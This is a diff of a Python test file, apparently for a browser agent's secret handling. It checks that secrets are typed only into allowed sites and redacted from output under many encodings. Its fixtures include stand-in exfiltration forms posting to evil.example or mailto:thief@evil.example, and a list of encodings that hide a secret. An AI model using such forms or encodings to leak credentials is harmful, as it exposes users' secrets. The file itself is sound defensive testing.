@@ -1,8 +1,13 @@
 """Secrets: put in only for the site that may have them, and out of everything that comes back."""
 
+import asyncio
 import base64
+import html
 import json
+import re
+import string
 from collections.abc import Awaitable, Callable, Mapping
+from random import Random
 from typing import Any
 from urllib.parse import quote, quote_plus, urlencode
 
@@ -137,37 +142,198 @@ class _Card(BaseModel):
     name: str = "Anna"
 
 
-def test_secrets_at_any_depth() -> None:
-    secrets = {"a": Secret("1", origins=["https://x.example"]), "b": Secret(lambda: "2", origins=["https://x.example"])}
+async def test_secrets_at_any_depth() -> None:
+    x = ["https://x.example"]
+    secrets = {"a": Secret("1", origins=x), "b": Secret(lambda: "2", origins=x)}
     value = ["<secret:a>", ("<secret:b>", 3), {"key": "x<secret:a><secret:b>"}, _Card(number="<secret:b>"), None]
-    assert revealed(value, secrets, "https://x.example") == ["1", ("2", 3), {"key": "x12"}, _Card(number="2"), None]
+    assert await revealed(value, secrets, x) == ["1", ("2", 3), {"key": "x12"}, _Card(number="2"), None]
     with pytest.raises(ActionDenied):
-        revealed({"deep": [_Card(number="<secret:a>")]}, secrets, "https://y.example")
+        await revealed({"deep": [_Card(number="<secret:a>")]}, secrets, ["https://y.example"])
     with pytest.raises(InvalidArguments):
-        revealed("<secret:c>", secrets, "https://x.example")
-    assert revealed(["nothing"], secrets, "") == ["nothing"]
+        await revealed("<secret:c>", secrets, x)
+    assert await revealed(["nothing"], secrets, [""]) == ["nothing"]
 
 
-@pytest.mark.parametrize(
-    "write",
-    [
-        str,
-        quote,
-        quote_plus,
-        lambda value: quote(value, safe=""),  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
-        repr,
-        json.dumps,
-        lambda value: value.encode().hex(),  # pyright: ignore[reportUnknownLambdaType, reportUnknownMemberType]
-        lambda value: base64.b64encode(b"user:" + value.encode()).decode(),  # pyright: ignore
-        lambda value: base64.urlsafe_b64encode(b"user::" + value.encode() + b"!").decode(),  # pyright: ignore
-        lambda value: base64.b64encode(value.encode()).decode(),  # pyright: ignore
-    ],
-)
-def test_however_a_secret_is_written(write: Callable[[str], str]) -> None:
-    text = redacted(f"a {write(VALUE)} b", {"word": Secret(VALUE)})
+async def test_every_site_that_gets_it_has_to_be_allowed_before_any_secret_is_fetched() -> None:
+    x, fetched = "https://x.example", list[str]()
+
+    def fetch() -> str:
+        fetched.append("a")
+        return "opensesame"
+
+    secrets = {"a": Secret(fetch, origins=[x]), "b": Secret("2", origins=["https://y.example"])}
+    with pytest.raises(ActionDenied, match="'a' may not be used on https://y.example"):
+        await revealed("<secret:a>", secrets, [x, "https://y.example"])
+    with pytest.raises(ActionDenied, match="'b' may not be used on https://x.example"):
+        await revealed("<secret:a><secret:b>", secrets, [x])
+    assert fetched == []
+    assert await revealed("<secret:a> <secret:a>", secrets, [x]) == "opensesame opensesame"
+    assert fetched == ["a"]
+
+
+async def test_a_value_that_a_function_brings_is_asked_for_when_it_is_typed(at: At, port: int) -> None:
+    values = iter(["first-word", "second-word"])
+
+    async def fetch() -> str:
+        return next(values)
+
+    secrets = {"word": Secret(fetch, origins=[f"http://127.0.0.1:{port}"])}
+    tab, context = await at("<input aria-label=Word>"), ActionContext(secrets=secrets)
+    assert redacted("first-word", secrets) == "first-word", "nobody knows it yet, and nobody asked for it"
+    for value in ("first-word", "second-word"):
+        assert (await Controller().execute(TYPED, tab, context)).ok
+        assert await tab.page.locator("input").input_value() == value
+    assert redacted("first-word, second-word", secrets) == "<secret:word>, <secret:word>"
+
+
+@pytest.mark.parametrize("how", ["raises", "nothing", "no text", "never", "async"])
+async def test_a_value_that_does_not_come_is_told_without_its_text(at: At, port: int, how: str) -> None:
+    def fetch() -> Any:
+        if how in ("nothing", "no text"):
+            return "" if how == "nothing" else 123456
+        raise LookupError("hunter22 is wrong")
+
+    async def waits() -> str:
+        if how == "never":
+            await asyncio.Event().wait()
+        raise LookupError("hunter22 is wrong")
+
+    value = waits if how in ("never", "async") else fetch
+    controller = Controller()
+    controller.action_timeout = 2.0
+    context = ActionContext(secrets={"word": Secret(value, origins=[f"http://127.0.0.1:{port}"])})
+    tab = await at("<input aria-label=Word>")
+    result = await controller.execute(TYPED, tab, context)
+    kind = {"raises": "LookupError", "async": "LookupError"}.get(how, "InvalidSetting")
+    told = f"secret 'word' could not be fetched ({kind}); go on without it, or end with done and say so"
+    assert result.text == ("a secret did not come within 2 s; nothing was done" if how == "never" else told)
+    assert result.error == "ActionError"
+    assert await tab.page.locator("input").input_value() == ""
+
+
+FORMS = {
+    "elsewhere": ("<form action='http://localhost:{port}/x'>{field}</form>", "http://localhost:{port}"),
+    "by a button": (
+        "<form>{field}<button formaction='//localhost:{port}'>Go</button></form>",
+        "http://localhost:{port}",
+    ),
+    "by post": ("<form id=f method=post action='https://evil.example/'></form>{field:f}", "https://evil.example"),
+    "by mail": ("<form action='mailto:thief@evil.example'>{field}</form>", "this page"),
+    "disguised": (
+        "<form action='https://evil.example/'><input name=action><input name=elements>{field}</form>",
+        "https://evil.example",
+    ),
+}
+
+
+@pytest.mark.parametrize("form", FORMS)
+async def test_a_field_whose_form_sends_it_elsewhere_is_given_no_secret(at: At, port: int, form: str) -> None:
+    html, to = FORMS[form]
+    field = "<input aria-label=Word id=w>"
+    html = html.replace("{field:f}", field.replace("<input", "<input form=f")).replace("{field}", field)
+    tab = await at(html.replace("{port}", str(port)))
+    ref = next(one.ref for one in (await tab.observe()).elements.values() if one.name == "Word")
+    result = await run(tab, {"type": {"ref": ref, "text": "<secret:word>"}}, f"http://127.0.0.1:{port}")
+    assert result.text == f"secret 'word' may not be used on {to.format(port=port)}"
+    assert await tab.page.locator("#w").input_value() == ""
+
+
+async def test_a_form_that_stays_on_the_site_or_is_sent_by_script_gets_its_secret(at: At, port: int) -> None:
+    for action in ("", "/login", "javascript:void 0", "http://"):
+        tab = await at(f"<form action='{action}'>{FIELD}</form>")
+        (ref,) = (await tab.observe()).elements
+        result = await run(tab, {"type": {"ref": ref, "text": "<secret:word>"}}, f"http://127.0.0.1:{port}")
+        assert result.ok, result.text
+
+
+def _spread(value: str) -> str:
+    return "".join(f"<i>{sign}</i>" for sign in value)
+
+
+def _in_script(value: str) -> str:
+    return "".join(f"\\u{ord(sign):04x}" for sign in value)
+
+
+def _b64(value: bytes) -> str:
+    return base64.b64encode(value).decode()
+
+
+WAYS: dict[str, Callable[[str], str]] = {
+    "as it is": str,
+    "address": quote,
+    "form": quote_plus,
+    "address, all": lambda value: quote(value, safe=""),
+    "address, twice": lambda value: quote(quote(value, safe=""), safe=""),
+    "address, small letters": lambda value: re.sub("%..", lambda found: found[0].lower(), quote(value)),
+    "address, latin": lambda value: quote(value, encoding="latin-1"),
+    "python": repr,
+    "json": json.dumps,
+    "json in json": lambda value: json.dumps(json.dumps(value)),
+    "script": _in_script,
+    "html": html.escape,
+    "html, numbers": lambda value: "".join(f"&#{ord(sign)};" for sign in value),
+    "html, twice": lambda value: html.escape(html.escape(value)),
+    "split by tags": _spread,
+    "split by markdown": lambda value: f"{value[:3]}**{value[3:9]}**{value[9:]}",
+    "split by signs without width": "\u200b".join,
+    "a sign a line": "\n".join,
+    "hex": lambda value: value.encode().hex(),
+    "hex, latin": lambda value: value.encode("latin-1").hex().upper(),
+    "base64 1": lambda value: _b64(b"user:" + value.encode()),
+    "base64 2": lambda value: base64.urlsafe_b64encode(b"user::" + value.encode() + b"!").decode(),
+    "base64 3": lambda value: _b64(value.encode()),
+    "base64, latin": lambda value: _b64(value.encode("latin-1")),
+    "base64 of json": lambda value: _b64(json.dumps({"word": value}).encode()),
+    "base64 of an address": lambda value: _b64(quote(value, safe="").encode()),
+    "base64 in an address": lambda value: quote(_b64(value.encode()), safe=""),
+}
+LONG = "".join(Random(7).choices(string.ascii_letters + string.digits + string.punctuation, k=300))
+REST = 34
+"""Signs of another text or of the edges of an encoding that may be left of 900 and more."""
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_however_a_secret_is_written(way: str) -> None:
+    written = WAYS[way](VALUE)
+    text = redacted(f"a {written} b", {"word": Secret(VALUE)})
     assert "<secret:word>" in text
     assert "hunter2" not in text
-    assert len(text) < len("a <secret:word> b") + 14
+    assert len(text) < len("a <secret:word> b") + 22
+
+
+@pytest.mark.parametrize("way", [way for way in WAYS if "latin" not in way])
+def test_however_a_long_secret_is_written(way: str) -> None:
+    secrets, written = {"key": Secret(LONG)}, WAYS[way](LONG)
+    text = redacted(written, secrets)
+    assert text.count("<secret:key>") == 1
+    assert len(text) < len("<secret:key>") + REST
+    for part in (written[: len(written) // 2], written[-len(written) // 2 :]):  # texts are cut
+        text = redacted(part, secrets)
+        assert "<secret:key>" in text
+        assert len(text.replace("<secret:key>", "")) < REST + 16 * len(written) / len(LONG)
+
+
+def test_a_secret_that_is_cut_by_dots() -> None:
+    assert redacted("the word is hunter2 & 'c…", {"word": Secret(VALUE)}) == "the word is <secret:word>…"
+    assert redacted("hunting is no secret…", {"word": Secret(VALUE)}) == "hunting is no secret…"
+
+
+def test_a_one_time_code_is_a_number_of_its_own() -> None:
+    secret = Secret.totp("JBSWY3DPEHPK3PXP", now=lambda: 59.0)
+    code = secret.reveal()
+    secrets = {"code": secret}
+    for written in (
+        code,
+        f"{code[:3]} {code[3:]}",
+        f"{code[:3]}-{code[3:]}",
+        f"code={code}&x",
+        f"x{code}y",
+        _spread(code),
+    ):
+        assert code not in redacted(written, secrets)
+        assert "<secret:code>" in redacted(written, secrets)
+    for other in (f"1{code}", f"{code}0", f"{code[:3]}.{code[3:]}"):
+        assert redacted(other, secrets) == other
 
 
 def test_secrets_that_hold_each_other_are_empty_or_short() -> None:
